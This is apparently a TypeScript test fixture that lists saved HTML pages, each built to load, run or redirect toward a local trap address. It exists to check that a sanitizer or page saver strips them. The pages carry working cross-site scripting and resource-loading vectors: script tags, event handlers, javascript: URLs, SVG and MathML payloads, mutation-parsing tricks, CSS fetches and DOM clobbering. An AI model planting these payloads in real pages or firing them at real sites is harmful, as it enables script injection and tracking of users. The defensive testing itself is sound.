// Saved pages that try to run, to load or to lead away. Each says the same sentence.

/** A server that must not be asked for anything: the tests listen there. */
export const trap = 'http://127.0.0.1:9';

const said = '<p>The bells of Aldersund were cast in 1911.</p>';

/** What it is, and the page, which has the trap's address in it. */
export const hostilePages: readonly (readonly [what: string, source: string])[] = [
  ['scripts', `<script src="${trap}/a.js"></script><script>fetch('${trap}/b')</script>${said}`],
  [
    'handlers',
    `<body onload="fetch('${trap}/a')"><img src=x onerror="fetch('${trap}/b')"><p onclick="x()" onfocus="x()" autofocus tabindex=1 contenteditable>${said}`,
  ],
  [
    'a base and relative addresses',
    `<base href="${trap}/"><img src="a.png"><link rel="stylesheet" href="a.css">${said}`,
  ],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${trap}/a">${said}`],
  ['a policy of its own', `<meta http-equiv="Content-Security-Policy" content="default-src *">${said}`],
  [
    'a form',
    `<form action="${trap}/a"><input name=a autofocus><input type=image src="${trap}/b"><button formaction="${trap}/c">Go</button></form>${said}`,
  ],
  [
    'SVG',
    `<svg onload="fetch('${trap}/a')"><image href="${trap}/b"/><use href="${trap}/c#x"/><script>fetch('${trap}/d')</script><foreignObject><iframe src="${trap}/e"></iframe></foreignObject><animate onbegin="fetch('${trap}/f')" attributeName=x dur=1s/></svg>${said}`,
  ],
  [
    'MathML',
    `<math><mtext><table><mglyph><style><img src=x onerror="fetch('${trap}/a')"></style></table></mtext><maction actiontype="statusline#" xlink:href="javascript:fetch('${trap}/b')">x</maction></math>${said}`,
  ],
  [
    'style that fetches',
    `<style>@import url(${trap}/a.css); @font-face { font-family: x; src: url(${trap}/f) } body { background: url(${trap}/b.png); font-family: x } p::before { content: url(${trap}/c) }</style><p style="background:url(${trap}/d)" background="${trap}/e">${said}`,
  ],
  [
    'javascript addresses',
    `<a href="javascript:fetch('${trap}/a')">a</a><a href="java&#10;script:fetch('${trap}/b')">b</a><iframe src="javascript:fetch('${trap}/c')"></iframe><object data="javascript:fetch('${trap}/d')"></object>${said}`,
  ],
  [
    'frames and plug-ins',
    `<iframe src="${trap}/a" srcdoc="<img src=${trap}/b>"></iframe><object data="${trap}/c"></object><embed src="${trap}/d"><applet code="${trap}/e"></applet><portal src="${trap}/f"></portal>${said}`,
  ],
  [
    'media',
    `<video src="${trap}/a" poster="${trap}/b" autoplay></video><audio src="${trap}/c" autoplay></audio><picture><source srcset="${trap}/d"><img srcset="${trap}/e 1x" src="${trap}/f" lowsrc="${trap}/g" dynsrc="${trap}/h"></picture>${said}`,
  ],
  [
    'links that load',
    `<link rel="prefetch" href="${trap}/a"><link rel="dns-prefetch" href="//x.test"><link rel="icon" href="${trap}/b"><link rel="modulepreload" href="${trap}/c"><a ping="${trap}/d" href="${trap}/e" download>go</a>${said}`,
  ],
  [
    'a picture that is a drawing',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${trap}/a'/></svg>"><img src="data:text/html,<script>1</script>">${said}`,
  ],
  [
    'markup that a second reading changes',
    `<noscript><p title="</noscript><img src=x onerror=fetch('${trap}/a')>"></noscript><textarea></textarea><img src=x onerror=fetch('${trap}/b')><!--><img src=x onerror=fetch('${trap}/c')>--><xmp><p title="</xmp><img src=x onerror=fetch('${trap}/d')>"></xmp><template><img src="${trap}/e" onerror=x></template>${said}`,
  ],
  [
    'ids that are names of the page’s own',
    `<p id="quote" name="quote">x</p><a name="quote" id="location"></a>${said}`,
  ],
  [
    'a second document',
    `<p>x</p></body></html><frameset><frame src="${trap}/a"></frameset><html manifest="${trap}/b"><body background="${trap}/c">${said}`,
  ],
  [
    'old attributes that load',
    `<table background="${trap}/a"><tr background="${trap}/b"><td background="${trap}/c">x</td></tr></table><img longdesc="${trap}/d" usemap="#m"><map name=m><area href="${trap}/e"></map><q cite="${trap}/f">x</q><blockquote cite="${trap}/g">x</blockquote><input src="${trap}/h" type=image><isindex action="${trap}/i">${said}`,
  ],
];
